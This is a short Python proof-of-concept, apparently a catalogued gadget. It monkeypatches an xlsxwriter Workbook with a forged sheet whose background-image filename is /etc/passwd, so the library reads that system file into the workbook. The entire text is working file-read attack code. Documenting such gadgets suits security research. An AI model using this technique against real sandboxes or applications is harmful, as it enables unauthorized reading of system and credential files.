# class: data
# mechanism: reader by path
# how: a workbook of xlsxwriter asks worksheets() for its sheets, which is a function of the program (worksheet_class = does it too); the background of a sheet of its own is an object whose filename is read into the file
# reaches: reads /etc/passwd
import io
import xlsxwriter

class Picture:
    image_data = None
    description = None
    filename = "/etc/passwd"
    _image_extension = "png"
    _digest = "a"

class Sheet:
    name = "b"
    index = 1
    print_area_range = ()
    autofilter_area = ()
    is_chartsheet = constant_memory = hidden = False
    has_vml = has_header_vml = has_comments = False
    has_dynamic_arrays = has_dynamic_functions = False
    charts = shapes = header_images = footer_images = images = tables = ()
    external_hyper_links = external_drawing_links = external_vml_links = []
    external_background_links = external_table_links = external_comment_links = []
    drawing_links = vml_drawing_links = drawing_rels = []
    background_image = Picture()
    drawing = None
    repeat_row_range = repeat_col_range = autofilter = ""

    def _prepare_background(self, *args):
        pass

    def _set_xml_writer(self, file):
        self.file = file

    def _assemble_xml_file(self):
        self.file.write("<a/>")

book = xlsxwriter.Workbook(io.BytesIO(), {"in_memory": True})
sheet = book.add_worksheet("a")
book.worksheets = lambda: [sheet, Sheet()]
book.close()
